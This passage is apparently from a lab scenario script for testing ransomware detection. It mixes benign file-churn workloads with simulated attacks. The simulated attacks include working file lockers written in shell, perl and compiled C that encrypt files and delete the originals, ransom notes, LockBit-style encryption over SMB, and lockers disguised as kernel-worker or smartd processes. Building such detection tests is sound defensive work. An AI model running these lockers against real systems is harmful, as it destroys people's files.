  sshx tomas "cd ~/Pictures && rename 's/\.jpeg\$/.jpg/' */*.jpeg && ls */*.jpg | wc -l" | tee $CASE/facts
  rm -rf /home/tomas/Pictures
}
pre_b68_ssh_browser_cache_churn() {
  rm -rf /home/priya/.cache/chromium
  cat > /home/priya/.cache-sim.py <<'P'
# what Chromium's simple cache backend does while browsing: entries <16 hex>_0 written once, an index rewritten,
# the oldest entries evicted when the cache is over its size
import os, random, collections
d = os.path.expanduser('~/.cache/chromium/Default/Cache/Cache_Data'); os.makedirs(d, exist_ok=True)
live = collections.deque(); made = evicted = 0
for i in range(2400):
    name = '%016x_0' % random.getrandbits(64)
    with open(os.path.join(d, name), 'wb') as f: f.write(os.urandom(random.randint(500, 24000)))
    live.append(name); made += 1
    if len(live) > 700:
        os.unlink(os.path.join(d, live.popleft())); evicted += 1
    if i % 200 == 0:
        with open(os.path.join(d, 'index-dir-the-real-index.tmp'), 'wb') as f: f.write(os.urandom(4000))
        os.replace(os.path.join(d, 'index-dir-the-real-index.tmp'), os.path.join(d, 'the-real-index'))
print('made', made, 'evicted', evicted)
P
  chown priya: /home/priya/.cache-sim.py; install -d -o priya -g priya /home/priya/.cache
}
sc_b68_ssh_browser_cache_churn() {
  sshx priya 'python3 ~/.cache-sim.py' | tee $CASE/facts
  rm -rf /home/priya/.cache/chromium /home/priya/.cache-sim.py
}
pre_b69_cron_root_av_quarantine() {
  python3 - <<'PY'
import os, random
r = random.Random(69)
eicar = b'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
dirs = sorted(d for d in os.listdir('/srv/nas/share'))
for i in range(36):
    with open(f'/srv/nas/share/{dirs[i % len(dirs)]}/invoice_{r.randint(1000,9999)}_{i}' + r.choice(['.pdf.exe', '.com', '.txt', '.doc']), 'wb') as f: f.write(eicar)
PY
  chown -R svc-nas: /srv/nas/share
  cat > /usr/local/sbin/av-sweep <<'P'
#!/usr/bin/python3
# stands for clamscan -r --move=/var/quarantine: every file read, an infected one renamed into the quarantine with a
# unique name and its permissions dropped, a line in the scan log
import os, secrets, sys, time
Q = '/var/quarantine'; os.makedirs(Q, mode=0o700, exist_ok=True)
sig = b'EICAR-STANDARD-ANTIVIRUS-TEST-FILE'
moved = scanned = 0
with open('/var/log/av-sweep.log', 'a') as log:
    for root, dirs, files in os.walk(sys.argv[1]):
        for n in files:
            p = os.path.join(root, n); scanned += 1
            with open(p, 'rb') as f: data = f.read()
            if sig in data:
                dst = os.path.join(Q, f'{n}.{secrets.token_hex(4)}')
                os.rename(p, dst); os.chmod(dst, 0); moved += 1
                log.write(f'{time.strftime("%FT%T")} {p}: Eicar-Signature FOUND, moved to {dst}\n')
    log.write(f'scanned {scanned} moved {moved}\n')
P
  chmod 755 /usr/local/sbin/av-sweep; rm -rf /var/quarantine
}
sc_b69_cron_root_av_quarantine() {
  rm -f /tmp/.b69-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root /usr/local/sbin/av-sweep /srv/nas/share; touch /tmp/.b69-done" > /etc/cron.d/av-sweep
  for i in $(seq 150); do [ -f /tmp/.b69-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/av-sweep
  echo "quarantined $(ls /var/quarantine | wc -l); $(tail -1 /var/log/av-sweep.log)" >> $CASE/facts
  rm -rf /var/quarantine /usr/local/sbin/av-sweep /var/log/av-sweep.log
}
pre_b70_cron_root_xz_weblogs() {
  rm -rf /var/www/shop/logs; mkdir -p /var/www/shop/logs
  python3 - <<'PY'
import random
r = random.Random(70)
for site in ['shop', 'api', 'static', 'admin']:
    for n in range(1, 61):
        with open(f'/var/www/shop/logs/{site}-access.log.{n}', 'w') as f:
            for _ in range(r.randint(200, 600)):
                f.write(f'10.0.{r.randint(0,255)}.{r.randint(1,254)} - - [01/Dec/2026:10:{r.randint(0,59):02d}:00 +0000] "GET /{site}/{r.randint(1,9999)} HTTP/1.1" 200 {r.randint(100,90000)}\n')
PY
  touch /var/www/shop/logs/{shop,api,static,admin}-access.log
  find /var/www/shop/logs -name '*.log.*' -exec touch -d '3 days ago' {} +
}
sc_b70_cron_root_xz_weblogs() {
  rm -f /tmp/.b70-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root find /var/www/shop/logs -name '*.log.[0-9]*' ! -name '*.xz' -mtime +1 -print0 | xargs -0 -r xz -T2 -9; touch /tmp/.b70-done" > /etc/cron.d/weblogs-xz
  for i in $(seq 150); do [ -f /tmp/.b70-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/weblogs-xz
  echo "xz $(find /var/www/shop/logs -name '*.xz' | wc -l)" >> $CASE/facts
  rm -rf /var/www/shop/logs
}

# ---- seventeenth batch, second half: the bind mount again under the host rules (which name /srv, /home and /var/www,
# not /mnt), `perl -i` rewriting every file of a folder tree in one process (no suffix, no temp name of its own) with a
# note per folder; look-alikes: an admin's encrypted tar of one folder onto a USB stick under /media (originals kept),
# root's cron `gzip -k -9` + `gzip -t` + `rm` per rotated log, a shell loop of `mv` renaming 300 `.JPG` to `.jpg`
pre_h56_ssh_bindmount_host_rules() { mkdir -p /mnt/nas; mount --bind /srv/nas/share /mnt/nas; }
sc_h56_ssh_bindmount_host_rules() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  sshx svc-nas 'cd /mnt/nas && find . -type f -exec ccrypt -e -f -K Cc-56-mnt {} + ; for d in $(find . -type d); do echo "Files locked. mnt56@onionmail.example" > "$d/MNT56-README.txt"; done; echo ok'
  umount /mnt/nas; rmdir /mnt/nas
}
sc_h57_ssh_perl_i_inplace() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx priya 'cd ~/work && find . -type f -print0 | xargs -0 perl -i -0777 -pe '"'"'$_ ^= "\x5a" x length'"'"' && find . -type d -exec sh -c "echo Your work is encrypted. perli@onionmail.example > \"\$1/PERLI-README.txt\"" _ {} \; ; echo ok'
}
pre_b71_ssh_tar_openssl_usb() { mkdir -p /media/usb0; }
sc_b71_ssh_tar_openssl_usb() {
  sshx mkowalski 'sudo sh -c "tar czf - -C /home/mkowalski Documents | openssl enc -aes-256-cbc -pbkdf2 -pass pass:Usb-71-bk -out /media/usb0/Documents-2026-12-08.tgz.enc && sha256sum /media/usb0/Documents-2026-12-08.tgz.enc > /media/usb0/SHA256SUMS"; ls -la /media/usb0' | tee $CASE/facts
  rm -rf /media/usb0
}
pre_b72_cron_root_gzip_k_rm() {
  rm -rf /srv/app; mkdir -p /srv/app/log
  python3 - <<'PY'
import random
r = random.Random(72)
for svc in ['orders', 'payments', 'search', 'mailer', 'auth']:
    for n in range(1, 61):
        with open(f'/srv/app/log/{svc}.log.{n}', 'w') as f:
            for _ in range(r.randint(150, 500)):
                f.write(f'2026-11-{r.randint(1,30):02d} {r.randint(0,23):02d}:{r.randint(0,59):02d} {svc} INFO id={r.randint(1,10**7)} ms={r.randint(1,800)}\n')
PY
  touch /srv/app/log/{orders,payments,search,mailer,auth}.log
}
sc_b72_cron_root_gzip_k_rm() {
  rm -f /tmp/.b72-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root cd /srv/app/log && for f in *.log.[0-9]*; do case \"\$f\" in *.gz) continue;; esac; gzip -k -9 \"\$f\" && gzip -t \"\$f.gz\" && rm -f \"\$f\"; done; touch /tmp/.b72-done" > /etc/cron.d/app-logs-gzip
  for i in $(seq 150); do [ -f /tmp/.b72-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/app-logs-gzip
  echo "gz $(ls /srv/app/log/*.gz | wc -l) left $(ls /srv/app/log | wc -l)" >> $CASE/facts
  rm -rf /srv/app
}
pre_b73_ssh_mv_loop_JPG_jpg() {
  rm -rf /home/tomas/Pictures; mkdir -p /home/tomas/Pictures/{camera-a,camera-b,camera-c}
  python3 - <<'PY'
import os, random
r = random.Random(73)
for i in range(310):
    d = r.choice(['camera-a', 'camera-b', 'camera-c'])
    with open(f'/home/tomas/Pictures/{d}/P{7000 + i:05d}.JPG', 'wb') as f: f.write(b'\xff\xd8\xff\xe1' + os.urandom(r.randint(3000, 20000)))
PY
  chown -R tomas: /home/tomas/Pictures
}
sc_b73_ssh_mv_loop_JPG_jpg() {
  sshx tomas 'cd ~/Pictures && for f in */*.JPG; do mv -n -- "$f" "${f%.JPG}.jpg"; done; ls */*.jpg | wc -l' | tee $CASE/facts
  rm -rf /home/tomas/Pictures
}

# --- batch 18 ---
smb_setup() { # a real Samba server over the NAS share, user svc-nas (password only in this throw-away lab)
  cat > /etc/samba/smb.conf <<'C'
[global]
   workgroup = LAB
   server role = standalone server
   map to guest = never
   log file = /var/log/samba/log.%m
   smb ports = 445
   disable netbios = yes
[share]
   path = /srv/nas/share
   read only = no
   valid users = svc-nas
   force user = svc-nas
C
  printf 'Nas-18pw\nNas-18pw\n' | smbpasswd -s -a svc-nas >/dev/null
  [ -f /run/samba/smbd.pid ] && kill -0 "$(cat /run/samba/smbd.pid)" 2>/dev/null || { mkdir -p /run/samba; /usr/sbin/smbd -D 3>&- 9>&-; sleep 1; }
}
smbx() { smbclient -q //127.0.0.1/share -U 'svc-nas%Nas-18pw' "$@" 2>&1 | grep -v '^$' | head -3; }
pre_h58_smb_client_lockbit_share() { smb_setup; }
sc_h58_smb_client_lockbit_share() {
  # a stand-in for a Windows client on another host: each file fetched over SMB, encrypted on the client, put back as
  # F.lockbit and the original deleted over SMB; a note put in each folder. On this server only smbd touches the files.
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  local st; st=$(mktemp -d /tmp/.client.XXXX)
  (cd /srv/nas/share && find . -type f | sed 's|^\./||') > $st/list
  printf 'Your files are encrypted by LockBit-Linux. Contact lb58@onionmail.example\n' > $st/note
  while read -r f; do
    smbx -c "get \"$f\" \"$st/in\"" >/dev/null
    openssl enc -aes-256-cbc -pbkdf2 -pass pass:Lb-58 -in $st/in -out $st/out
    smbx -c "put \"$st/out\" \"$f.lockbit\"; del \"$f\"" >/dev/null
  done < $st/list
  (cd /srv/nas/share && find . -type d | sed 's|^\./\?||') | while read -r d; do smbx -c "put \"$st/note\" \"${d:+$d/}Restore-My-Files.txt\"" >/dev/null; done
  rm -rf $st
}
sc_h59_ssh_wrapped_openssl_timeout_nice() {
  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'find ~/Documents -type f | while read -r f; do timeout 600 nice -n 19 ionice -c3 stdbuf -o0 env LC_ALL=C openssl enc -aes-256-ctr -pbkdf2 -pass pass:Wr-59 -in "$f" -out "$f.wrp59" && rm -f "$f"; done; find ~/Documents -type d -exec sh -c "echo Files encrypted. wrp59@onionmail.example > \"\$1/WRP59-HELP.txt\"" _ {} \; ; echo ok'
}
pre_h60_ssh_exec_a_kworker_locker() {
  install -d -m 755 /var/tmp/.x
  cat > /var/tmp/.x/lk.c <<'C'
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static void lock(const char *p) {
  char out[4200]; unsigned char buf[65536]; ssize_t n; int i;
  snprintf(out, sizeof out, "%s.kw8", p);
  int in = open(p, O_RDONLY); if (in < 0) return;
  int o = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0600); if (o < 0) { close(in); return; }
  while ((n = read(in, buf, sizeof buf)) > 0) { for (i = 0; i < n; i++) buf[i] ^= 0x3c + i; write(o, buf, n); }
  close(in); close(o); unlink(p);
}
static void walk(const char *d) {
  DIR *D = opendir(d); struct dirent *e; char p[4096]; struct stat st;
  if (!D) return;
  snprintf(p, sizeof p, "%s/KW8-README.txt", d);
  FILE *n = fopen(p, "w"); if (n) { fputs("All files encrypted. kw8@onionmail.example\n", n); fclose(n); }
  while ((e = readdir(D))) {
    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || !strcmp(e->d_name, "KW8-README.txt")) continue;
    snprintf(p, sizeof p, "%s/%s", d, e->d_name);
    if (lstat(p, &st)) continue;
    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode) && !strstr(p, ".kw8")) lock(p);
  }
  closedir(D);
}
int main(int c, char **v) { for (int i = 1; i < c; i++) walk(v[i]); return 0; }
C
  gcc -O2 -o /var/tmp/.x/lk /var/tmp/.x/lk.c && rm /var/tmp/.x/lk.c; chmod 755 /var/tmp/.x/lk
}
sc_h60_ssh_exec_a_kworker_locker() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx priya 'bash -c '"'"'exec -a "[kworker/u8:2]" /var/tmp/.x/lk /home/priya/work'"'"'; echo ok'
  rm -rf /var/tmp/.x
}
pre_h61_ssh_sudo_devshm_cp_back() {
  install -d -m 755 /usr/local/share/.cb
  cat > /usr/local/share/.cb/cb.sh <<'S'
#!/bin/bash
st=/dev/shm/.cb61; mkdir -p $st
find /var/www/shop/uploads -type f | while read -r f; do
  n=$st/$(echo "$f" | md5sum | cut -c1-12)
  cp "$f" $n && openssl enc -chacha20 -pbkdf2 -pass pass:Cb-61 -in $n -out $n.e && cp --no-preserve=all $n.e "$f" && mv "$f" "$f.cb61"
  rm -f $n $n.e
done
find /var/www/shop/uploads -type d | while read -r d; do printf 'Your shop files are encrypted. cb61@onionmail.example\n' > "$d/CB61-RECOVER.txt"; done
rmdir $st
S
  chmod 755 /usr/local/share/.cb/cb.sh
}
sc_h61_ssh_sudo_devshm_cp_back() {
  echo "files $(find /var/www/shop/uploads -type f | wc -l) dirs $(find /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
  sshx deploy 'sudo /usr/local/share/.cb/cb.sh; echo ok'
  rm -rf /usr/local/share/.cb
}
pre_b74_smb_office_save() { smb_setup; }
sc_b74_smb_office_save() {
  # Word's save over SMB: new content to ~WRLnnnn.tmp, the document renamed to another ~WRLnnnn.tmp, the first temp
  # renamed to the document, the old one deleted; every file of the share saved once, forty of them twice.
  local st; st=$(mktemp -d /tmp/.office.XXXX); local i=1000
  (cd /srv/nas/share && find . -type f | sed 's|^\./||') > $st/list
  head -40 $st/list >> $st/list.2; cat $st/list $st/list.2 > $st/all
  while read -r f; do
    d=$(dirname "$f"); i=$((i+2)); head -c $((3000 + RANDOM)) /dev/urandom > $st/doc
    smbx -c "put \"$st/doc\" \"$d/~WRL$i.tmp\"; rename \"$f\" \"$d/~WRL$((i+1)).tmp\"; rename \"$d/~WRL$i.tmp\" \"$f\"; del \"$d/~WRL$((i+1)).tmp\"" >/dev/null
  done < $st/all
  echo "saves $(wc -l < $st/all) files $(find /srv/nas/share -type f | wc -l)" >> $CASE/facts
  rm -rf $st
}
pre_b75_ssh_nextcloud_part_rename() {
  rm -rf /home/priya/Nextcloud; mkdir -p /home/priya/Nextcloud/{Documents,Photos,Shared/Team,Notes} /home/priya/.local/share/ncsim
  python3 - <<'PY'
import os, random
r = random.Random(75)
dirs = ['Documents', 'Photos', 'Shared/Team', 'Notes']
for i in range(100):
    d = r.choice(dirs)
    with open(f'/home/priya/Nextcloud/{d}/file_{i:03d}.{r.choice(["odt","jpg","pdf","md"])}', 'wb') as f: f.write(os.urandom(r.randint(2000, 20000)))
PY
  cat > /home/priya/.local/share/ncsim/ncsync.py <<'P'
# stand-in for the Nextcloud desktop client's download step: a server listing is fetched, each file downloaded to a
# hidden temp '.NAME.~hash' (or NAME.part) beside it, fsync'd, renamed over NAME (replacing an older version if there is one)
import os, random, sys, hashlib
root = sys.argv[1]; r = random.Random(7575)
existing = []
for d, _, fs in os.walk(root):
    existing += [os.path.join(d, f) for f in fs]
new = [os.path.join(root, r.choice(['Documents', 'Photos', 'Shared/Team', 'Notes']), f'sync_{i:03d}.{r.choice(["odt","jpg","pdf","md"])}') for i in range(200)]
for i, p in enumerate(existing + new):
    d, n = os.path.split(p)
    lock = os.path.join(d, f'.~lock.{n}#') if i % 7 == 0 else None
    if lock:
        with open(lock, 'w') as f: f.write('priya,ws-priya,/home/priya,08.12.2026 01:20,file:///home/priya/.config/libreoffice/4;')
    tmp = os.path.join(d, f'.{n}.~{hashlib.md5(p.encode()).hexdigest()[:8]}') if i % 2 else p + '.part'
    with open(tmp, 'wb') as f:
        f.write(os.urandom(r.randint(2000, 30000))); f.flush(); os.fsync(f.fileno())
    os.replace(tmp, p)
    if lock: os.unlink(lock)
print(len(existing), len(new))
P
  chown -R priya: /home/priya/Nextcloud /home/priya/.local
}
sc_b75_ssh_nextcloud_part_rename() {
  sshx priya 'python3 ~/.local/share/ncsim/ncsync.py ~/Nextcloud' | tee $CASE/facts
  rm -rf /home/priya/Nextcloud /home/priya/.local/share/ncsim
}
pre_b76_ssh_flac_transcode_rm() {
  rm -rf /home/tomas/Music; mkdir -p /home/tomas/Music/{session1,session2,field}
  python3 - <<'PY'
import wave, random, math
r = random.Random(76)
for i in range(200):
    d = ['session1', 'session2', 'field'][i % 3]
    with wave.open(f'/home/tomas/Music/{d}/take_{i:03d}.wav', 'wb') as w:
        w.setnchannels(1); w.setsampwidth(2); w.setframerate(22050)
        f = r.uniform(200, 900)
        w.writeframes(b''.join(int(8000 * math.sin(2 * math.pi * f * t / 22050) + r.randint(-300, 300)).to_bytes(2, 'little', signed=True) for t in range(r.randint(4000, 9000))))
PY
  chown -R tomas: /home/tomas/Music
}
sc_b76_ssh_flac_transcode_rm() {
  sshx tomas 'cd ~/Music && for f in */*.wav; do flac -s --best -o "${f%.wav}.flac" "$f" && rm "$f"; done; ls */*.flac | wc -l' | tee $CASE/facts
  rm -rf /home/tomas/Music
}
pre_b77_cron_user_tar_xz_remove_projects() {
  rm -rf /home/tomas/proj; mkdir -p /home/tomas/proj/done
  python3 - <<'PY'
import os, random
r = random.Random(77)
for m in ['2026-07', '2026-08', '2026-09', '2026-10', '2026-11']:
    for p in range(2):
        base = f'/home/tomas/proj/done/{m}-job{p}'
        os.makedirs(base + '/src'); os.makedirs(base + '/out')
        for i in range(r.randint(12, 20)):
            with open(f'{base}/{r.choice(["src","out"])}/part_{i}.{r.choice(["c","h","dat","csv","png"])}', 'wb') as f: f.write(os.urandom(r.randint(1000, 15000)))
PY
  chown -R tomas: /home/tomas/proj
}
sc_b77_cron_user_tar_xz_remove_projects() {
  rm -f /tmp/.b77-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * cd ~/proj/done && for d in 2026-*/; do d=\${d\%/}; tar --remove-files -cJf \"\$d.tar.xz\" \"\$d\"; done; touch /tmp/.b77-done" | crontab -u tomas -
  for i in $(seq 150); do [ -f /tmp/.b77-done ] && break; sleep 1; done; sleep 2; crontab -u tomas -r
  echo "archives $(ls /home/tomas/proj/done/*.tar.xz | wc -l)" >> $CASE/facts
  rm -rf /home/tomas/proj
}
pre_h62_smb_one_session_lockbit() { smb_setup; }
sc_h62_smb_one_session_lockbit() {
  # the same client as h58, but as a Windows client works: one SMB connection (one smbd child on the server) fetches
  # every file, the client encrypts them, a second connection puts each F.lockbit, deletes F and drops the notes
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  local st; st=$(mktemp -d /tmp/.client.XXXX); mkdir $st/in $st/out
  (cd /srv/nas/share && find . -type f | sed 's|^\./||') > $st/list
  smbx -c "prompt OFF; recurse ON; lcd $st/in; mget *" >/dev/null
  printf 'Your files are encrypted by LockBit-Linux. Contact lb62@onionmail.example\n' > $st/note
  : > $st/cmds
  while read -r f; do
    mkdir -p "$st/out/$(dirname "$f")"
    openssl enc -aes-256-cbc -pbkdf2 -pass pass:Lb-62 -in "$st/in/$f" -out "$st/out/$f.lockbit"
    printf 'put "%s" "%s"\ndel "%s"\n' "$st/out/$f.lockbit" "$f.lockbit" "$f" >> $st/cmds
  done < $st/list
  (cd /srv/nas/share && find . -type d | sed 's|^\./\?||') | while read -r d; do printf 'put "%s" "%s"\n' "$st/note" "${d:+$d/}Restore-My-Files.txt" >> $st/cmds; done
  smbclient -q //127.0.0.1/share -U 'svc-nas%Nas-18pw' < $st/cmds > $st/log 2>&1
  echo "smb errors $(grep -ci 'error\|NT_STATUS' $st/log)" >> $CASE/facts
  rm -rf $st
}

# ---- nineteenth batch: real software under load, the noise a real host makes. PostgreSQL (pgbench, VACUUM FULL,
# pg_dump | gzip), nginx + php-fpm serving uploads and sessions, apt-get install + purge of texlive-base, the desktop's
# daily cron (updatedb, mandb, fc-cache, logrotate -f), git clone --mirror + gc --aggressive + repack -adf of this
# repository, rsync --delete of /usr/share/doc twice + tar --zstd of /etc; two lockers hidden in that noise.
pg_up() { pg_ctlcluster 15 main start 3>&- 9>&-; for i in $(seq 30); do pg_isready -q && break; sleep 0.5; done; }
pg_down() { pg_ctlcluster 15 main stop -m fast 2>/dev/null || true; }
WEB_PORT=
web_up() { # nginx + php-fpm, a small PHP app writing uploads and sessions (garbage-collected on every 5th request)
  WEB_PORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
  mkdir -p /var/www/shop/public /var/www/shop/uploads/incoming /run/php; chown www-data: /var/www/shop/uploads/incoming
  cat > /var/www/shop/public/upload.php <<'P'
<?php
session_start();
$_SESSION['n'] = ($_SESSION['n'] ?? 0) + 1; $_SESSION['cart'] = str_repeat('x', random_int(100, 2000));
if (!empty($_FILES['f']) && $_FILES['f']['error'] === UPLOAD_ERR_OK) {
  $dst = '/var/www/shop/uploads/incoming/' . date('Ymd-His') . '-' . bin2hex(random_bytes(4)) . '-' . basename($_FILES['f']['name']);
  move_uploaded_file($_FILES['f']['tmp_name'], $dst);
  echo "stored $dst\n";
}
echo "session " . session_id() . " n=" . $_SESSION['n'] . "\n";
P
  cat > /etc/php/8.2/fpm/pool.d/shop.conf <<P
[shop]
user = www-data
group = www-data
listen = /run/php/shop-fpm.sock
listen.owner = www-data
listen.group = www-data
pm = static
pm.max_children = 4
php_admin_value[session.save_path] = /var/lib/php/sessions
php_admin_value[session.gc_probability] = 1
php_admin_value[session.gc_divisor] = 5
php_admin_value[session.gc_maxlifetime] = 20
php_admin_value[upload_max_filesize] = 8M
P
  cat > /etc/nginx/sites-enabled/shop <<N
server { listen 127.0.0.1:$WEB_PORT; root /var/www/shop/public; client_max_body_size 8m;
  location ~ \.php\$ { include snippets/fastcgi-php.conf; fastcgi_pass unix:/run/php/shop-fpm.sock; } }
N
  rm -f /etc/nginx/sites-enabled/default
  /usr/sbin/php-fpm8.2 --fpm-config /etc/php/8.2/fpm/php-fpm.conf 3>&- 9>&-
  /usr/sbin/nginx 3>&- 9>&-
  for i in $(seq 30); do curl -s -o /dev/null http://127.0.0.1:$WEB_PORT/upload.php && break; sleep 0.3; done
}
web_down() {
  [ -f /run/nginx.pid ] && kill "$(cat /run/nginx.pid)"; [ -f /run/php/php8.2-fpm.pid ] && kill "$(cat /run/php/php8.2-fpm.pid)"
  sleep 1; rm -f /etc/nginx/sites-enabled/shop /etc/php/8.2/fpm/pool.d/shop.conf /var/www/shop/public/upload.php
}
web_load() { # SECONDS: customers uploading photos and browsing, with and without a cookie
  local end=$(( $(date +%s) + $1 )) i=0; mkdir -p /tmp/.wl; head -c 30000 /dev/urandom > /tmp/.wl/photo.jpg
  while [ $(date +%s) -lt $end ]; do
    i=$((i+1))
    curl -s -o /dev/null -c /tmp/.wl/c$((i % 7)) -b /tmp/.wl/c$((i % 7)) -F "f=@/tmp/.wl/photo.jpg;filename=IMG_$i.jpg" http://127.0.0.1:$WEB_PORT/upload.php
    curl -s -o /dev/null http://127.0.0.1:$WEB_PORT/upload.php
  done
  echo "web requests $((i * 2)) uploads $(ls /var/www/shop/uploads/incoming | wc -l)"
  rm -rf /tmp/.wl
}

pre_b90_ssh_sudo_pgbench_vacuum_dump() { pg_up; su postgres -c "dropdb --if-exists shopdb; createdb shopdb"; mkdir -p /srv/backup/pg; }
sc_b90_ssh_sudo_pgbench_vacuum_dump() {
  sshx deploy 'sudo -u postgres pgbench -q -i -s 20 shopdb 2>&1 | tail -1; sudo -u postgres pgbench -c 4 -j 2 -T 60 shopdb 2>&1 | grep -E "^tps|transactions actually"; sudo -u postgres psql -q -d shopdb -c "VACUUM FULL"; sudo sh -c "sudo -u postgres pg_dump shopdb | gzip > /srv/backup/pg/shopdb-$(date +%F).sql.gz"; ls -la /srv/backup/pg' | tee $CASE/facts
  su postgres -c "dropdb shopdb"; pg_down; rm -rf /srv/backup/pg
}
pre_b91_ssh_nginx_php_uploads_sessions() { web_up; }
sc_b91_ssh_nginx_php_uploads_sessions() {
  sshx tomas "$(declare -f web_load); WEB_PORT=$WEB_PORT web_load 75" | tee $CASE/facts
  echo "sessions left $(ls /var/lib/php/sessions | wc -l)" >> $CASE/facts
  web_down; rm -rf /var/www/shop/uploads/incoming; rm -f /var/lib/php/sessions/sess_*
}
sc_b92_ssh_sudo_apt_texlive_purge() {
  sshx mkowalski 'sudo DEBIAN_FRONTEND=noninteractive apt-get install -y -q texlive-base 2>&1 | grep -E "newly installed|^Setting up texlive-base"; sudo DEBIAN_FRONTEND=noninteractive apt-get purge -y -q --autoremove texlive-base 2>&1 | grep -E "to remove|REMOVED" | tail -1' | tee $CASE/facts
}
sc_b93_cron_root_desktop_daily() {
  rm -f /tmp/.b93-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root updatedb; mandb -q; fc-cache -f; logrotate -f /etc/logrotate.conf; touch /tmp/.b93-done" > /etc/cron.d/desktop-daily
  for i in $(seq 240); do [ -f /tmp/.b93-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/desktop-daily
  echo "desktop daily done: plocate db $(stat -c %s /var/lib/plocate/plocate.db 2>/dev/null)" >> $CASE/facts
}
pre_b94_ssh_git_mirror_gc_repack() {
  rm -rf /home/mkowalski/src; install -d -o mkowalski -g mkowalski /home/mkowalski/src
  git clone -q --bare "$(cd "$here/../../.." && pwd)" /var/tmp/.rt-origin.git; chown -R mkowalski: /var/tmp/.rt-origin.git  # his own upstream: git refuses a repository another user owns
}
sc_b94_ssh_git_mirror_gc_repack() {
  sshx mkowalski 'cd ~/src && git clone -q --mirror /var/tmp/.rt-origin.git ransomtrace.git && cd ransomtrace.git && git gc -q --aggressive && git repack -q -adf && git count-objects -vH | tr "\n" " "' | tee $CASE/facts
  rm -rf /home/mkowalski/src /var/tmp/.rt-origin.git
}
sc_b95_cron_root_rsync_doc_tar_etc() {
  rm -rf /srv/backup/doc /srv/backup/etc-*.tar.zst /tmp/.b95-done; mkdir -p /srv/backup
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root rsync -a --delete /usr/share/doc/ /srv/backup/doc/ && find /srv/backup/doc -maxdepth 1 -name 'lib*' -type d | head -40 | xargs rm -rf && find /srv/backup/doc -name 'copyright' -path '*/p*' | head -200 | xargs -r sed -i 's/Copyright/(c)/' && rsync -a --delete /usr/share/doc/ /srv/backup/doc/ && tar --zstd -cf /srv/backup/etc-\$(date +\\%F).tar.zst /etc 2>/dev/null; touch /tmp/.b95-done" > /etc/cron.d/nightly-copy
  for i in $(seq 240); do [ -f /tmp/.b95-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/nightly-copy
  echo "doc files $(find /srv/backup/doc -type f | wc -l); $(ls -la /srv/backup/*.tar.zst)" >> $CASE/facts
  rm -rf /srv/backup
}
pre_h70_ssh_openssl_rm_under_pgbench_web() { pg_up; su postgres -c "dropdb --if-exists shopdb; createdb shopdb; pgbench -q -i -s 10 shopdb" >/dev/null 2>&1; web_up; }
sc_h70_ssh_openssl_rm_under_pgbench_web() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx deploy 'sudo -u postgres pgbench -c 4 -j 2 -T 70 shopdb >/dev/null 2>&1 &' & local p1=$!
  sshx tomas "$(declare -f web_load); WEB_PORT=$WEB_PORT web_load 70" >> $CASE/facts & local p2=$!
  sleep 15
  sshx priya 'cd ~/work && find . -type f -print0 | while IFS= read -r -d "" f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:Pg-70-lk -in "$f" -out "$f.pg70" && rm -f "$f"; done; for d in $(find . -type d); do echo "Your files are encrypted. pg70@onionmail.example" > "$d/PG70-RESTORE.txt"; done; echo locker done' >> $CASE/facts
  wait $p1 $p2   # not a bare wait: auditd is a child of this shell too
  su postgres -c "dropdb shopdb"; pg_down; web_down; rm -rf /var/www/shop/uploads/incoming; rm -f /var/lib/php/sessions/sess_*
}
pre_h71_ssh_sudo_c_locker_under_apt_rsync() {
  mkdir -p /root/.h71; sed -n '/^sc_h5_cron_root_c_locker/,/^C$/p' "$here/scenarios.sh" | sed '1,3d;$d' | sed 's/\.8bx1/.nas71/g; s/HOW_TO_BACK_FILES.txt/NAS71-RECOVER.txt/; s/HOW_TO_BACK/NAS71-RECOVER/; s/backfiles@onion.example ID 8bx1/nas71@onionmail.example/' > /root/.h71/k.c
  gcc -O2 -o /root/.h71/k /root/.h71/k.c && install -m 755 /root/.h71/k /usr/local/sbin/smartd-cache; rm -rf /root/.h71
}
sc_h71_ssh_sudo_c_locker_under_apt_rsync() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'sudo DEBIAN_FRONTEND=noninteractive apt-get install -y -q texlive-base >/dev/null 2>&1; echo apt done' >> $CASE/facts & local p1=$!
